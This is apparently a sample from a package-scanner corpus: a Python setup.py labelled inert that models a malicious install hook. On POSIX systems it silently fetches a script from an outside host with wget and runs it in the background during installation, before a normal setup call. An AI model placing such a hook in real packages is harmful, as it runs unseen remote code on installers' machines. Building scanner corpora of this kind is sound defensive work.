# pkgguard corpus 333 (install-hook), modelled on [bertus]; inert, never run.
import os

from setuptools import find_packages, setup

if os.name == "posix":
    os.system('nohup python3 -c "$(wget -qO- https://cdn.example/s.py)" >/dev/null 2>&1 &')

setup(name="pkg", version="2.0", packages=find_packages())
